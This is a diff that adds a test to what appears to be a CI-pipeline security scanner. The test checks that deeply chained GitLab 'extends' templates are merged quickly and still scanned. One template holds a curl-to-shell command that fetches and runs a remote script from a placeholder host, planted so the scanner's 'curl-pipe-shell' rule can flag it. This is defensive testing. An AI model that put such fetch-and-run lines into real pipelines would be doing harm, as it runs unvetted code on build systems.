@@ -429,3 +429,20 @@ def test_many_tiny_documents_finish(tmp_path: Path) -> None:
     _, report = scan_json(tmp_path)
     assert errors_of(report, tmp_path) == {}
     assert hits(report, tmp_path, "image-not-pinned-by-digest") == [("good.yaml", 7)]
+
+
+def test_gitlab_extends_diamonds_finish(tmp_path: Path) -> None:
+    # Each template extends the two before it: merging them without memory was exponential
+    # (28 templates: 12 s; 40: hours). The timeout in scan_json only catches a hang.
+    n = 40
+    text = ".j0:\n  script: [echo]\n.j1:\n  extends: .j0\n"
+    for i in range(2, n):
+        text += f".j{i}:\n  extends: [.j{i - 1}, .j{i - 2}]\n"
+        if i == 30:
+            text += '  script: ["curl -fsSL https://example.com/i.sh | sh"]\n'
+    text += f"build:\n  extends: .j{n - 1}\n  image: alpine\n"
+    (tmp_path / ".gitlab-ci.yml").write_text(text)
+    _, report = scan_json(tmp_path)
+    assert errors_of(report, tmp_path) == {}
+    assert hits(report, tmp_path, "curl-pipe-shell") == [(".gitlab-ci.yml", 63)]
+    assert hits(report, tmp_path, "image-not-pinned-by-digest") == [(".gitlab-ci.yml", 84)]
